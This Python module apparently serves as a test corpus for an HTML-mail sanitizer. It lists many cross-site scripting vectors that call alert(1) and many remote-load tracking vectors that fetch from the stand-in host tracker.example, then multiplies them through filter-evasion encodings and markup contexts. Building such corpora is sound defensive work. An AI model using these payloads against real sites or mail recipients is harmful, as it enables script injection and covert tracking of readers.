"""HTML mail as attackers write it: known vectors, each in many contexts and encodings.

``RUNS`` calls ``alert`` where it is not stopped; ``PHONES`` loads something from ``tracker.example``.
"""

from __future__ import annotations

import html
from collections.abc import Callable, Iterator
from typing import Final
from urllib.parse import quote

HOME: Final = "http://tracker.example"

RUNS: Final = (
    "<script>alert(1)</script>",
    f"<script src={HOME}/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\x0c>alert(1)</script >",
    "<script type=module>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=x onerror=alert`1`>",
    '<img """><script>alert(1)</script>">',
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body/onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<button popovertarget=x>c</button><p popover id=x onbeforetoggle=alert(1)>x</p>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src='data:text/html,<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>'>",
    "<a href=javascript:alert(1) id=go>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#14; javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:alert(1)>x</a>",
    "<area href=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(#default#time2)' onbegin=alert(1)>x</div>",
    "<div onmouseover=alert(1) style='position:fixed;inset:0'>x</div>",
    "<p onpointerenter=alert(1) onmouseover=alert(1)>x</p>",
    "<div style='animation-name:x' onanimationstart=alert(1)><style>@keyframes x{}</style></div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<template><script>alert(1)</script></template><img src=x onerror=alert(1)>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><td background=javascript:alert(1)>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<b/><img src=x onerror=alert(1) x='",
    "<<img src=x onerror=alert(1)>",
    "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>",
    "<custom-element onfocus=alert(1) tabindex=0 autofocus>x</custom-element>",
    "<a id=x tabindex=1 onactivate=alert(1) onfocus=alert(1) autofocus>x</a>",
    "<font color='\"><img src=x onerror=alert(1)>'>x</font>",
    "<img alt='<x' title='/><img src=x onerror=alert(1)>'>",
    "<base href=javascript:alert(1)//><a href=x>x</a>",
    "<link rel=stylesheet href='javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-<img src=x onerror=alert(1)>",
)  # fmt: skip

PHONES: Final = (
    f"<img src={HOME}/1.gif>",
    f"<img src=//tracker.example/2.gif>",  # noqa: F541
    f"<img srcset='{HOME}/3.gif 1x'>",
    f"<img src='x' lowsrc={HOME}/4.gif dynsrc={HOME}/4.gif>",
    f"<picture><source srcset={HOME}/5.gif><img></picture>",
    f"<image src={HOME}/6.gif>",
    f"<input type=image src={HOME}/7.gif>",
    f"<video poster={HOME}/8.gif></video>",
    f"<video src={HOME}/9.mp4 autoplay></video>",
    f"<audio src={HOME}/10.mp3 preload=auto></audio>",
    f"<video><track default src={HOME}/11.vtt><source src={HOME}/11.mp4></video>",
    f"<body background={HOME}/12.gif>",
    f"<table background={HOME}/13.gif><tr><td background={HOME}/13b.gif>x</td></tr></table>",
    f"<div style='background:url({HOME}/14.gif)'>x</div>",
    f"<div style='background-image:url(\"{HOME}/15.gif\")'>x</div>",
    f"<div style='background-image:image-set(\"{HOME}/16.gif\" 1x)'>x</div>",
    f"<div style='list-style:url({HOME}/17.gif);display:list-item'>x</div>",
    f"<div style='content:url({HOME}/18.gif)'>x</div>",
    f"<div style='cursor:url({HOME}/19.cur),auto'>x</div>",
    f"<div style='border-image:url({HOME}/20.gif) 1'>x</div>",
    f"<div style='mask:url({HOME}/21.svg)'>x</div>",
    f"<div style='filter:url({HOME}/22.svg#f)'>x</div>",
    f"<div style='--x:url({HOME}/23.gif);background:var(--x)'>x</div>",
    f"<div style='background:u\\72l({HOME}/24.gif)'>x</div>",
    f"<div style='color:red;/*x*/background:url({HOME}/25.gif)'>x</div>",
    f"<div style='font-family:x,\"</style><img src={HOME}/26.gif>\"'>x</div>",
    f"<style>@import '{HOME}/27.css';</style>",
    f"<style>@font-face{{font-family:x;src:url({HOME}/28.woff)}}*{{font-family:x}}</style>x",
    f"<style>body{{background:url({HOME}/29.gif)}}</style>",
    f"<link rel=stylesheet href={HOME}/30.css>",
    f"<link rel=prefetch href={HOME}/31.bin><link rel=preload as=image href={HOME}/31.gif>",
    f"<link rel=icon href={HOME}/32.ico><link rel=manifest href={HOME}/32.json>",
    f"<meta http-equiv=refresh content='0;url={HOME}/33'>",
    f"<base href={HOME}/><img src=34.gif>",
    f"<iframe src={HOME}/35.html></iframe>",
    f"<iframe srcdoc='<img src={HOME}/36.gif>'></iframe>",
    f"<object data={HOME}/37.swf></object>",
    f"<embed src={HOME}/38.swf>",
    f"<svg><image href={HOME}/39.gif /><image xlink:href={HOME}/39b.gif /></svg>",
    f"<svg><use href={HOME}/40.svg#x /></svg>",
    f"<svg><feImage href={HOME}/41.gif /></svg>",
    f"<svg><style>*{{background:url({HOME}/42.gif)}}</style></svg>",
    f"<math><annotation-xml encoding=text/html><img src={HOME}/43.gif></annotation-xml></math>",
    f"<bgsound src={HOME}/44.wav>",
    f"<frameset><frame src={HOME}/45.html></frameset>",
    f"<form action={HOME}/46 id=f><input name=a value=b></form>",
    f"<a href={HOME}/47 ping={HOME}/47.ping>x</a>",
    f"<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{HOME}/48.gif\"/></svg>'>",
    f"<object type=text/html><param name=src value={HOME}/49></object>",
    f"<portal src={HOME}/50></portal><fencedframe src={HOME}/50></fencedframe>",
    f"<noscript><img src={HOME}/51.gif></noscript><img src={HOME}/51b.gif>",
    f"<p style=\"background:url('{HOME}/52.gif')\" class=x>x</p>",
)  # fmt: skip

Encoding = Callable[[str], str]
ENCODINGS: Final[tuple[Encoding, ...]] = (
    lambda text: text,
    lambda text: text.swapcase().replace("ALERT", "alert"),
    lambda text: text.replace("javascript:", "java\tscript:").replace("=", " = ", 1),
    lambda text: text.replace("<", "<\x00").replace("alert", "a\x00lert"),
    lambda text: (
        text.replace("javascript", "&#106;&#97vascript").replace("(", "&lpar;").replace(")", "&rpar;")
    ),
    lambda text: text.replace("javascript", "".join(f"&#x{ord(each):x};" for each in "javascript")),
    lambda text: text.replace(" on", "/on").replace(" src", "\x0bsrc").replace(" style", "\x0cstyle"),
    lambda text: text.replace("'", '"').replace("http:", "hTTp:").replace("//", "\\\\/"),
)

CONTEXTS: Final[tuple[str, ...]] = (
    "<p>Hello</p>{}<p>Bye</p>",
    "<table><tr><td>{}</td></tr></table>",
    "<table>{}</table>",
    '<a title="{}">x</a>',
    "<a title='{}'>x</a>",
    "<svg>{}</svg>",
    "<svg><desc>{}</desc></svg>",
    "<math><mtext>{}</mtext></math>",
    "<style>{}</style>",
    "<noscript>{}</noscript>",
    "<template>{}</template>",
    "<select><option>{}</option></select>",
    "<textarea>{}</textarea>{}",
    "<!-- {} -->",
    "<blockquote type=cite>{}",
    "<b><i><u><font><center>{}",
    "<div style='color:red'>{}</div></div></div>{}",
    "{}{}",
    "<frameset>{}</frameset>",
    "<p>&lt;{}</p>",
)


def payloads() -> Iterator[str]:
    """Yield every hostile message."""
    for vector in (*RUNS, *PHONES):
        for encode in ENCODINGS:
            yield encode(vector)
        for context in CONTEXTS:
            yield context.replace("{}", vector)
        yield html.escape(vector)
        yield html.escape(html.escape(vector))
        yield quote(vector)
